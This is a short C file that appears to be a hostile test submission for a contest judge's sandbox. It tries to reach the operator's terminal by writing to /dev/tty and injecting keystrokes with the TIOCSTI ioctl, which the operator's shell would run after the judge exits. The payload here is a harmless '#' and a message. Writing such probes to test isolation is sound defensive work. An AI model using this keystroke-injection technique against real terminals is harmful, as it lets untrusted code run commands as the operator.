// attack: reach the operator's terminal: open /dev/tty (the judge's
// controlling terminal, while the program is in the judge's session),
// write on it, and push keystrokes into its input with TIOCSTI (on
// /dev/tty and on the standard streams), which the operator's shell runs
// once the judge exits. Any of it done wins. The corpus runs the judge
// without a terminal; `tests/hostile_session.rs` runs it under one.
// setup: plain
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <unistd.h>
int main(void) {
    int won = 0;
    int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
    if (tty >= 0) {
        won = 1;
        static const char line[] = "\r\n[a submission wrote on your terminal]\r\n";
        if (write(tty, line, sizeof line - 1) < 0) {}
    }
    int fds[] = {0, 1, 2, tty};
    for (int i = 0; i < 4; i++) {
        char c = '#';
        if (fds[i] >= 0 && ioctl(fds[i], TIOCSTI, &c) == 0) won = 1;
    }
    int n, a, b;
    if (scanf("%d", &n) != 1) return 1;
    for (int i = 0; i < n; i++)
        if (scanf("%d %d", &a, &b) == 2) printf("%d\n", won ? a + b : 0);
    return 0;
}
